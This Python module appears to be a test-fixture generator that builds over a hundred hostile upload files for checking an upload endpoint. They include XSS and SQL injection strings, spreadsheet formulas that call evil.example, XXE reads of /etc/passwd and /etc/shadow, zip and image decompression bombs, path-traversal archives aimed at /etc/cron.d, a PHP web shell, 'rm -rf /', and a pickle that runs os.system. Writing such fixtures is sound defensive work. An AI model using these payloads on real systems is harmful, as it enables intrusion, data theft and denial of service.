"""A hundred and more files that nobody should send, made here. Each carries MARK, so that what becomes of it can be found again.

`list_of` makes the text of a list that the page would read, with these words in a free cell: half of the corpus is refused at the door,
the other half looks right until somebody reads it.
"""

import gzip
import io
import json
import lzma
import struct
import zipfile
import zlib
from bz2 import compress as bz2
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache

MARK = "zzbadupload"
_M = MARK.encode()
_MB = 1024 * 1024
ListOf = Callable[[str], str]
SCRIPTS = (
    f"<script {MARK}>alert(1)</script>",
    f"<img {MARK} src=x onerror=alert(1)>",
    f"\"'><svg {MARK} onload=alert(1)>",
    f"</td></textarea></title><iframe {MARK} src=javascript:alert(1)>",
    f"<!--{MARK}--><style {MARK}>*{{display:none}}</style>",
    f"{{{{ request.{MARK} }}}}{{% debug %}}",
    f"Robert'); DROP TABLE people_baby;--{MARK}",
    f"%3Cscript {MARK}%3E ${{7*7}} %00",
    f"\u202e{MARK}\u202c\u200b\ufeff",
    f"\x1b]0;{MARK}\x07\x1b[2J",
)
FORMULAS = (
    f'=HYPERLINK("https://evil.example/{MARK}")',
    f"=cmd|' /C calc'!A0{MARK}",
    f"+1+{MARK}",
    f"-2+3+{MARK}",
    f"@SUM(1+{MARK})",
    f"\t=1+{MARK}",
    f"\uff1d1+{MARK}",
    f'=IMPORTXML(CONCAT("https://evil.example/",A1),"{MARK}")',
)
NAMES = (
    *("../../../etc/cron.d/list.csv", "..\\..\\list.csv", "/etc/passwd", "C:\\Windows\\list.csv", ".htaccess", "list.csv.exe", "con.csv"),
    *("<script>alert(1)</script>.csv", "\"><img src=x onerror=alert(1)>.csv", "list.svg", "list.php", "list.html", "list.xlsx", "list.png"),
    *("list\r\nSet-Cookie: a=b.csv", "list\x00.csv", "\u202evsc.exe", "a" * 300 + ".csv", ".", "list;b.csv", "=1+1.csv", "Tag.csv", "list"),
)  # fmt: skip


@dataclass(frozen=True)
class Bad:
    """One file: its sort, the name it comes under, its bytes. Of a `foreign` one nothing at all may be kept."""

    sort: str
    name: str
    content: bytes

    @property
    def foreign(self) -> bool:
        """Whether it is no list, whatever it says."""
        return self.sort in ("picture", "document", "archive", "program")


def corpus(list_of: ListOf) -> Iterator[Bad]:
    """All of them, one at a time: together they would not fit where one of them must."""
    yield from _foreign()
    good = list_of(f"Ines {MARK}").encode()
    yield from (Bad("name", name, good) for name in NAMES)
    yield from (Bad("script", f"script-{n}.csv", list_of(words).encode()) for n, words in enumerate(SCRIPTS))
    yield from (Bad("formula", f"formula-{n}.csv", list_of(words).encode()) for n, words in enumerate(FORMULAS))
    yield from (Bad("letters", name, content) for name, content in _letters(list_of))
    yield from (Bad("size", name, content) for name, content in _sizes(list_of))
    yield from (Bad("json", name, content) for name, content in _json())


@cache
def _foreign() -> tuple[Bad, ...]:
    """Those that are no list: the same at every door, and small as they are sent."""
    made = {"picture": _pictures(), "document": _documents(), "archive": _archives(), "program": _programs()}
    return tuple(Bad(sort, name, content) for sort, files in made.items() for name, content in files)


def _chunk(sort: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + sort + body + struct.pack(">I", zlib.crc32(sort + body))


def _png(width: int, height: int, *more: bytes) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + b"".join(more) + _chunk(b"IEND", b"")


def _exif(words: bytes) -> bytes:
    """EXIF with a place on the earth (51.5 north) and a text."""
    gps = struct.pack("<H", 2) + struct.pack("<HHI4s", 1, 2, 2, b"N\0\0\0") + struct.pack("<HHII", 2, 5, 3, 64) + b"\0\0\0\0"
    tiff = b"II*\0\x08\0\0\0" + struct.pack("<H", 1) + struct.pack("<HHII", 0x8825, 4, 1, 26) + b"\0\0\0\0" + gps
    body = b"Exif\0\0" + tiff.ljust(64, b"\0") + struct.pack("<6I", 51, 1, 30, 1, 0, 1) + words
    return b"\xff\xe1" + struct.pack(">H", len(body) + 2) + body


def _pictures() -> Iterator[tuple[str, bytes]]:
    script = f"<script {MARK}>alert(1)</script>".encode()
    comment = b"\xff\xfe" + struct.pack(">H", len(script) + 2) + script
    yield "gif-and-script.gif", b"GIF89a=1;/*" + b"\0" * 9 + b"*/alert('" + _M + b"');"
    yield "gif-and-page.gif", b"GIF87a\x01\0\x01\0\0\0\0" + script + b";"
    yield "gif-as-a-list.csv", b"GIF89a,First name\n" + _M + b",=1\n"
    yield "jpeg-and-page.jpg", b"\xff\xd8" + comment + b"\xff\xd9<html>" + script
    yield "jpeg-and-php.jpg", b"\xff\xd8" + comment + b"<?php system('" + _M + b"'); ?>\xff\xd9"
    yield "jpeg-with-a-place.jpg", b"\xff\xd8" + _exif(_M) + b"\xff\xd9"
    yield "jpeg-with-a-script-in-its-exif.jpg", b"\xff\xd8" + _exif(script) + b"\xff\xd9"
    yield "jpeg-as-a-list.csv", b"\xff\xd8" + _exif(_M) + b"\nFirst name\nIda\n\xff\xd9"
    yield "png-30000.png", _png(30_000, 30_000, _chunk(b"tEXt", b"c\0" + _M))
    yield "png-bomb.png", _png(30_000, 30_000, _chunk(b"tEXt", b"c\0" + _M), _chunk(b"IDAT", zlib.compress(bytes(60 * _MB), 9)))
    yield "png-with-a-place.png", _png(1, 1, _chunk(b"eXIf", _exif(_M)[10:]))
    yield "png-with-a-script.png", _png(1, 1, _chunk(b"tEXt", b"c\0" + script))
    yield "bmp-and-script.bmp", b"BM=1;/*" + b"\0" * 40 + b"*/alert('" + _M + b"')"
    yield "webp.webp", b"RIFF" + struct.pack("<I", 60) + b"WEBPVP8X" + struct.pack("<I", 10) + bytes(10) + b"EXIF" + script
    yield "ico.ico", b"\0\0\x01\0\x01\0" + script
    yield "tiff.tif", b"II*\0" + struct.pack("<I", 0xFFFFFFF0) + _M
    yield "psd.psd", b"8BPS\0\x01" + bytes(6) + struct.pack(">HII", 3, 30_000, 30_000) + _M
    yield "drawing.svg", b"<svg xmlns='http://www.w3.org/2000/svg'>" + script + b"</svg>"
    yield "drawing-that-runs.svg", f"<svg {MARK} onload='alert(1)'/>".encode()
    yield "drawing-that-fetches.svg", f"<svg><image {MARK} href='https://evil.example/a'/></svg>".encode()
    yield "drawing-that-reads.svg", f"<!DOCTYPE s [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg {MARK}>&x;</svg>".encode()
    yield "drawing-as-a-list.csv", b"\xef\xbb\xbf \n<svg>" + script + b"</svg>"
    yield "drawing.svgz", gzip.compress(b"<svg>" + script + b"</svg>")


def _documents() -> Iterator[tuple[str, bytes]]:
    pdf = b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert('" + _M + b"'))>>>>endobj\n"
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    yield "runs.pdf", pdf + b"%%EOF"
    yield "and-a-zip.pdf", pdf + _zip({"list.csv": _M})
    yield "as-a-list.csv", pdf
    yield "page.html", f"<html><body><script {MARK}>alert(1)</script>".encode()
    yield "page-as-a-list.csv", f"<!doctype html><table><tr><td {MARK} onclick=alert(1)>".encode()
    yield "laughs.xml", f'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY l0 "{MARK}">{laughs}]><l>&l9;</l>'.encode()
    yield "reads.xml", f"<?xml version='1.0'?><!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/shadow'>]><r>{MARK}&x;</r>".encode()
    yield "letter.rtf", b"{\\rtf1{\\object\\objdata " + _M + b"}}"
    yield "letter.mht", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>" + _M + b"</script>"
    yield "old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + _M
    yield "old-as-a-list.csv", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + _M
    yield "macro.docm", _zip({"word/vbaProject.bin": _M, "[Content_Types].xml": b"<Types/>"})
    yield "list.ods", _zip({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": _M})


def _zip(files: dict[str, bytes]) -> bytes:
    told = io.BytesIO()
    with zipfile.ZipFile(told, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return told.getvalue()


def _archives() -> Iterator[tuple[str, bytes]]:
    nothing = bytes(60 * _MB)
    sheet = b"<worksheet><sheetData>" + b"<row><c><v>1</v></c></row>" * 400_000 + _M
    inner = _zip({f"{n}.csv": bytes(4 * _MB) for n in range(4)} | {"mark": _M})
    yield "bomb.zip", _zip({"list.csv": nothing, MARK: b""})
    yield "bomb-in-a-bomb.zip", _zip({f"{n}.zip": inner for n in range(10)} | {MARK: b""})
    yield "bomb-as-a-list.csv", _zip({"list.csv": nothing, MARK: b""})
    yield "bomb.gz", gzip.compress(nothing + _M)
    yield "bomb-as-a-list.csv.gz", gzip.compress(b"First name\n" * 500_000 + _M)
    yield "bomb.bz2", bz2(nothing) + _M
    yield "bomb.xz", lzma.compress(nothing, preset=0) + _M
    yield "bomb.xlsx", _zip({"[Content_Types].xml": b"<Types/>", "xl/worksheets/sheet1.xml": sheet, MARK: b""})
    yield "strings.xlsx", _zip({"[Content_Types].xml": b"<Types/>", "xl/sharedStrings.xml": b"<si><t>" + nothing, MARK: b""})
    yield "entities.xlsx", _zip({"xl/workbook.xml": f"<!DOCTYPE w [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><w {MARK}>&x;".encode()})
    yield "climbs.zip", _zip({"../../../../etc/cron.d/x": _M})
    yield "climbs.tar", b"../../../../etc/cron.d/x".ljust(257, b"\0") + b"ustar\x0000" + bytes(248) + _M
    yield "gif-and-a-zip.gif", b"GIF89a" + bytes(7) + _zip({MARK: _M})
    yield "seven.7z", b"7z\xbc\xaf\x27\x1c\0\x04" + bytes(24) + _M
    yield "rar.rar", b"Rar!\x1a\x07\x01\0" + _M


def _programs() -> Iterator[tuple[str, bytes]]:
    yield "elf", b"\x7fELF\x02\x01\x01" + bytes(57) + _M
    yield "setup.exe", b"MZ" + bytes(58) + b"\x80\0\0\0" + _M
    yield "run.sh", b"#!/bin/sh\nrm -rf / # " + _M + b"\n"
    yield "shell.php", b"<?php system($_GET['" + _M + b"']); ?>"
    yield "a.class", b"\xca\xfe\xba\xbe\0\0\0\x3d" + _M
    yield "a.wasm", b"\0asm\x01\0\0\0" + _M
    yield "a.pickle", b"cos\nsystem\n(S'echo " + _M + b"'\ntR."
    yield "other.sqlite3", b"SQLite format 3\0" + bytes(84) + _M
    yield "script.js", b"fetch('//evil.example/" + _M + b"')"


def _letters(list_of: ListOf) -> Iterator[tuple[str, bytes]]:
    script, good = list_of(SCRIPTS[0]), list_of(f"Ines {MARK}")
    yield "nul-in-a-cell.csv", list_of(f"In\0es {MARK}").encode()
    yield "nul-in-the-first-row.csv", b"\0" + good.encode()
    yield "nuls.csv", bytes(3000) + _M
    yield "utf-16.csv", script.encode("utf-16")
    yield "utf-16-without-a-mark.csv", script.encode("utf-16-be")
    yield "utf-16-broken-off.csv", good.encode("utf-16")[:-1]
    yield "utf-32.csv", script.encode("utf-32")
    yield "utf-7.csv", list_of("+ADw-script+AD4-" + MARK).encode()
    yield "overlong.csv", list_of(MARK).encode().replace(_M, b"\xc0\xbcscript\xc0\xbe" + _M)
    yield "half-a-letter.csv", list_of(MARK).encode().replace(_M, b"\xed\xa0\x80" + _M)
    yield "two-marks.csv", b"\xef\xbb\xbf\xef\xbb\xbf" + good.encode()
    yield "ebcdic.csv", good.encode("cp500")
    yield "backspaces.csv", list_of("Ida\b\b\b" + MARK).encode()
    yield "one-line.csv", good.replace("\n", "\r").encode()
    yield "noise.csv", bytes(range(256)) * 8 + _M
    yield "nothing.csv", b""
    yield "spaces.csv", b" \r\n\t " * 100


def _sizes(list_of: ListOf) -> Iterator[tuple[str, bytes]]:
    head, row = list_of(MARK).splitlines()[:2]
    million = 1_000_000
    yield "a-long-line.csv", head.encode() + b"\n" + _M + b"a" * (9 * _MB)
    yield "a-long-name.csv", list_of(MARK + "a" * 90_000).encode()
    yield "a-name-in-quotes-that-never-close.csv", list_of(f'"{MARK}').encode() + b"x,y\n" * 200_000
    yield "a-million-cells.csv", f"{head}\n{row}".encode() + b",1" * million
    yield "a-million-columns.csv", head.encode() + b",a" * million + b"\n" + row.encode()
    yield "a-million-empty-rows.csv", f"{head}\n{row}\n".encode() + b"\n" * (9 * million)
    yield "a-million-short-rows.csv", f"{head}\n{row}\n".encode() + b"ab\n" * million
    yield "a-million-good-rows.csv", f"{head}\n".encode() + f"{row}\n".encode() * (9 * _MB // (len(row) + 1))
    yield "as-many-rows-as-are-read.csv", f"{head}\n".encode() + f"{row}\n".encode() * 18_000
    yield "a-million-quotes.csv", f"{head}\n".encode() + b'"' * million + _M
    yield "one-wide-letter.csv", f"{head}\n{row}\U0001f986".encode() + b"a" * (9 * _MB)
    yield "lines-of-another-sort.csv", f"{head}\n{row}\n".encode() + "ab\u2028".encode() * 1_500_000
    yield "too-big.csv", f"{head}\n".encode() + f"{row}\n".encode() * (13 * _MB // (len(row) + 1))
    yield "sep.csv", f"sep=\x01\n{head}\n{row}".encode()


def _json() -> Iterator[tuple[str, bytes]]:
    yield "deep.json", b"[" * 200_000 + _M
    yield "deep-and-closed.json", b'[{"a":' * 40_000 + b"1" + b"}]" * 40_000
    yield "many-nothings.json", b"[" + b"{}," * 3_000_000 + b"{}]"
    yield "many-lists.json", b"[[" + b"[]," * 3_000_000 + b"[]]]"
    yield "many-words.json", b'["' + b'ab","' * 1_800_000 + _M + b'"]'
    yield "many-numbers.json", b"[" + b"12," * 3_000_000 + b"1]"
    yield "a-long-number.json", b'[{"time": ' + b"9" * 5_000_000 + b"}]"
    yield "not-a-number.json", b'[{"time": NaN, "note": -Infinity, "x": "' + _M + b'"}]'
    yield "twice.json", json.dumps([{"note": SCRIPTS[1], "time": "2026-11-20 10:00:00"}]).replace("[{", '[{"note": "a", ').encode()
    yield "no-list.json", json.dumps({"note": MARK}).encode()
    yield "not-named.json", json.dumps([[MARK], MARK, 1, None, True]).encode()
    yield "odd-names.json", json.dumps([{SCRIPTS[0]: "1", "__proto__": MARK, "time": {"$gt": ""}, "note": [SCRIPTS[1]]}]).encode()
    yield "half-letters.json", b'[{"time": "2026-11-20 10:00:00", "note": "\\ud800 ' + _M + b'\\u0000"}]'
    yield "broken-off.json", b'[{"note": "' + _M
